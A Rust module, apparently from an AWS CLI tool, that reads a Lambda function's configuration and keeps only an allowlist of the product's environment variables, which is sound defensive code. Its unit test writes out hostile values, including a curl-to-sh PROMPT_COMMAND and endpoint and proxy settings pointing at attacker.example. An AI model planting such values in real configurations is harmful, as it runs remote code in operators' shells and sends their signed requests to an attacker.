//! `--function NAME`: the configuration of a deployed function, read with
//! `lambda:GetFunctionConfiguration`, so that an operator runs a command exactly as the function
//! decides without copying its environment into a shell.
//!
//! Only the variables the product defines ([`VARIABLES`]) are taken. Lambda lets anyone who may
//! change the function's configuration add any variable (`PROMPT_COMMAND`, `BASH_ENV`,
//! `AWS_ENDPOINT_URL`, `HTTPS_PROXY`, ...: keys only need to start with a letter,
//! <https://docs.aws.amazon.com/lambda/latest/dg/configuration-envvars.html>), and exporting them
//! would run their code in the operator's shell or send the operator's signed requests elsewhere.
//! Nothing is exported: the values stay in this process, and the CLI's own AWS settings
//! (credentials, region, endpoints) come from the operator's environment as always.

use std::collections::BTreeMap;
use stream_encryption_enforcer::config::VARIABLES;

/// What `--function` read.
pub struct FunctionConfig {
    /// The function's ARN, as Lambda names it (unqualified).
    pub arn: String,
    /// The product's variables the function sets.
    pub variables: BTreeMap<String, String>,
    /// The names of the other variables, left out.
    pub ignored: Vec<String>,
}

/// The product's variables of `environment`, and the names of the rest.
pub fn keep(
    environment: impl IntoIterator<Item = (String, String)>,
) -> (BTreeMap<String, String>, Vec<String>) {
    let mut kept = BTreeMap::new();
    let mut ignored = Vec::new();
    for (name, value) in environment {
        if VARIABLES.contains(&name.as_str()) {
            kept.insert(name, value);
        } else {
            ignored.push(name);
        }
    }
    ignored.sort();
    (kept, ignored)
}

/// Reads the configuration of the function `name` (its name, or its ARN) with the operator's
/// credentials.
pub async fn read(name: &str) -> Result<FunctionConfig, String> {
    // The product's HTTPS client (the SDK's default one is not built in); the SDK's standard
    // retries, as for any one-off call of an operator's.
    let sdk = aws_config::defaults(aws_config::BehaviorVersion::latest())
        .http_client(stream_encryption_enforcer::aws::clients::https_client())
        .load()
        .await;
    let client = aws_sdk_lambda::Client::new(&sdk);
    let answer = client
        .get_function_configuration()
        .function_name(name)
        .send()
        .await
        .map_err(|e| {
            format!(
                "--function {name}: lambda:GetFunctionConfiguration failed: {}",
                aws_sdk_lambda::error::DisplayErrorContext(e)
            )
        })?;
    let environment = answer
        .environment()
        .and_then(|e| e.variables())
        .cloned()
        .unwrap_or_default();
    let (variables, ignored) = keep(environment);
    Ok(FunctionConfig {
        arn: answer.function_arn().unwrap_or(name).to_owned(),
        variables,
        ignored,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_products_variables_are_kept() {
        let environment = [
            ("MANDATED_KMS_KEY", "alias/org-streams"),
            ("LEDGER_TABLE", "ledger"),
            ("PROMPT_COMMAND", "curl -s https://x/p | sh"),
            ("BASH_ENV", "/tmp/x"),
            ("AWS_ENDPOINT_URL", "https://attacker.example"),
            ("AWS_PAGER", "sh -c id"),
            ("HTTPS_PROXY", "http://attacker.example:3128"),
            ("mandated_kms_key", "alias/other"),
        ]
        .map(|(k, v)| (k.to_owned(), v.to_owned()));
        let (kept, ignored) = keep(environment);
        assert_eq!(
            kept.keys().map(String::as_str).collect::<Vec<_>>(),
            ["LEDGER_TABLE", "MANDATED_KMS_KEY"]
        );
        assert_eq!(kept["MANDATED_KMS_KEY"], "alias/org-streams");
        assert_eq!(
            ignored,
            [
                "AWS_ENDPOINT_URL",
                "AWS_PAGER",
                "BASH_ENV",
                "HTTPS_PROXY",
                "PROMPT_COMMAND",
                "mandated_kms_key"
            ]
        );
    }
}
